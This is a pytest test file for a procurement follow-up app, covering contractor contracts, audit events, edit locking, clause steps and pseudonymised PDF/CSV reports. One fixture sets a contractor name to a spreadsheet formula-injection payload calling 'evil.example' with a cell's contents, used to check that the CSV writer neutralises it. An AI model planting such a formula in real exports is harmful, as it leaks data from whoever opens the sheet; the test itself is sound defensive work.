"""Procurement contractors: contracts edited with audit and locking, the case's clause steps, the council report."""
from __future__ import annotations

import csv
import io
import re
from datetime import date

import pytest
from pypdf import PdfReader
from sqlalchemy import func, select

from praktijktest.audit.models import AuditEvent
from praktijktest.followup.contract_report import contractor_rows, contractors_csv, contractors_pdf
from praktijktest.followup.contracts import ContractError, StaleContract, TargetContract, add_contract, update_contract
from praktijktest.followup.services import move_case, open_case

TODAY = date(2026, 11, 30)
CONTRACT = {"contracting_authority": "Stad Demodorp, dienst aankoop", "reference": "AK-2026-041",
            "subject": "Schoonmaak stadsgebouwen", "starts_on": date(2026, 1, 1), "ends_on": date(2029, 12, 31),
            "has_clause": True}


def squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text)


def pdf_text(data: bytes) -> str:
    return squeeze("".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages))


def contract_count(db) -> int:
    return db.session.scalar(select(func.count(TargetContract.id)))


def test_a_contract_is_saved_and_every_change_audited(db, flagged_round, make_user):
    user = make_user("coordinator")
    _, _, targets = flagged_round()
    contract = add_contract(targets[0], CONTRACT, user)
    update_contract(contract, CONTRACT | {"has_clause": False}, contract.version, user)
    events = db.session.scalars(select(AuditEvent).where(AuditEvent.object_type == "TargetContract")
                                .order_by(AuditEvent.id)).all()
    assert [e.action for e in events] == ["contract.create", "contract.update"]
    assert events[1].changes == {"has_clause": [True, False]}
    assert targets[0].name not in " ".join(e.summary for e in events)  # audited by code, never by name


@pytest.mark.parametrize("change, message", [
    ({"contracting_authority": " "}, "contracting authority"),
    ({"reference": ""}, "reference"),
    ({"ends_on": date(2025, 12, 31)}, "cannot end before it starts"),
    ({"starts_on": None}, "starts"),
    ({"starts_on": date(1890, 1, 1)}, "between 1990 and 2100"),
    ({"reference": "x" * 101}, "too long"),
])
def test_bad_input_is_refused_and_nothing_saved(db, flagged_round, change, message):
    _, _, targets = flagged_round()
    with pytest.raises(ContractError, match=message):
        add_contract(targets[0], CONTRACT | change)
    assert contract_count(db) == 0


def test_a_reference_names_one_contract_and_a_stale_edit_is_refused(db, flagged_round):
    _, _, targets = flagged_round()
    first = add_contract(targets[0], CONTRACT)
    with pytest.raises(ContractError, match="already has this reference"):
        add_contract(targets[1], CONTRACT | {"reference": "ak-2026-041"})
    stale = first.version
    update_contract(first, CONTRACT | {"subject": "Nieuw"}, stale)
    with pytest.raises(StaleContract):
        update_contract(first, CONTRACT | {"subject": "Ouder formulier"}, stale)
    assert first.subject == "Nieuw"


def _form(**fields) -> dict:
    values = CONTRACT | fields
    data = {key: (value.isoformat() if isinstance(value, date) else value) for key, value in values.items()
            if key != "has_clause" and value is not None}
    return data | ({"has_clause": "y"} if values["has_clause"] else {})


def test_pages_refuse_bad_input_and_stale_forms_clearly(client, db, flagged_round, login_as, org):
    login_as("coordinator", org)
    _, _, targets = flagged_round()
    url = f"/follow-up/contractors/targets/{targets[0].id}"
    response = client.post(url, data=_form(ends_on=date(2025, 1, 1)))
    assert response.status_code == 200 and "cannot end before it starts" in response.get_data(as_text=True)
    assert contract_count(db) == 0
    assert client.post(url, data=_form()).status_code == 302
    contract = db.session.scalar(select(TargetContract))
    page = client.get(f"/follow-up/contractors/{contract.id}/edit").get_data(as_text=True)
    version = re.search(r'name="version" type="hidden" value="(\d+)"', page).group(1)
    edit = f"/follow-up/contractors/{contract.id}/edit"
    assert client.post(edit, data=_form(subject="Eerste") | {"version": version}).status_code == 302
    response = client.post(edit, data=_form(subject="Tweede") | {"version": version})
    assert response.status_code == 409 and "Someone else changed this contract" in response.get_data(as_text=True)
    db.session.refresh(contract)
    assert contract.subject == "Eerste"


def test_the_case_of_a_contractor_shows_the_contract_and_the_clause_steps(client, db, flagged_round, login_as, org):
    user = login_as("coordinator", org)
    _, snapshot, targets = flagged_round()
    add_contract(targets[0], CONTRACT, user)
    case = open_case(snapshot, targets[0].code, user)
    move_case(case, "dialogue", reason="Brief verstuurd", on=TODAY, user=user)
    page = client.get(f"/follow-up/{case.id}").get_data(as_text=True)
    assert "AK-2026-041" in page and "Follow-up of the non-discrimination clause" in page
    assert "remind the contractor of the non-discrimination clause" in page
    # Dialogue reached: the first clause step is due, the contracting authority's steps not yet.
    assert page.count("(due)") == 1 and page.count("(not yet due)") == 3


def _report_setup(db, flagged_round, user):
    _, snapshot, targets = flagged_round()
    targets[0].name = '=HYPERLINK("https://evil.example/?"&B3,"x") NV'
    add_contract(targets[0], CONTRACT, user)
    add_contract(targets[1], CONTRACT | {"reference": "AK-2025-007", "has_clause": False, "ends_on": None})
    case = open_case(snapshot, targets[0].code, user)
    db.session.flush()
    return targets, case


def test_the_report_lists_tested_contractors_by_contract_with_outcomes(db, flagged_round, make_user, org):
    user = make_user("coordinator")
    targets, case = _report_setup(db, flagged_round, user)
    rows = contractor_rows(org.id, pseudonymised=False)
    assert [(r.code, r.contract, r.flagged, r.tests) for r in rows] == [
        (t.code, ref, flag, tests) for t, ref, flag, tests in sorted(
            [(targets[0], "AK-2026-041", True, 10), (targets[1], "AK-2025-007", False, 2)], key=lambda x: x[0].code)]
    text = pdf_text(contractors_pdf(org, user, pseudonymised=False, lang="en"))
    for needle in ("AK-2026-041", "AK-2025-007", "Stad Demodorp", targets[0].code, targets[1].code,
                   "In 10 of its 10 tests", "Flagged for follow-up"):
        assert squeeze(needle) in text, needle
    assert targets[2].code not in text and targets[3].code not in text  # not contractors
    rows = list(csv.reader(io.StringIO(contractors_csv(org, user, pseudonymised=False))))
    names = [row[1] for row in rows[1:]]
    assert "'" + targets[0].name in names  # the safe cell writer: a formula-like name stays text


def test_viewers_get_codes_only(client, db, flagged_round, make_user, login_as, org):
    coordinator = make_user("coordinator")
    targets, _ = _report_setup(db, flagged_round, coordinator)
    login_as("viewer", org)
    identifying = [targets[0].name, targets[1].name, "AK-2026-041", "AK-2025-007", "Stad Demodorp", "2029"]
    pdf = client.get("/follow-up/contractors/report.pdf?lang=en")
    assert pdf.status_code == 200
    text = pdf_text(pdf.data)
    assert targets[0].code in text and "C1" in text
    page = client.get("/follow-up/contractors/").get_data(as_text=True)
    csv_text = client.get("/follow-up/contractors/report.csv").get_data(as_text=True)
    for needle in identifying:
        assert squeeze(needle) not in text and needle not in page and needle not in csv_text, needle
    actions = db.session.scalars(select(AuditEvent.summary).where(AuditEvent.action == "contract.report")).all()
    assert len(actions) == 2 and all("pseudonymised" in s for s in actions)
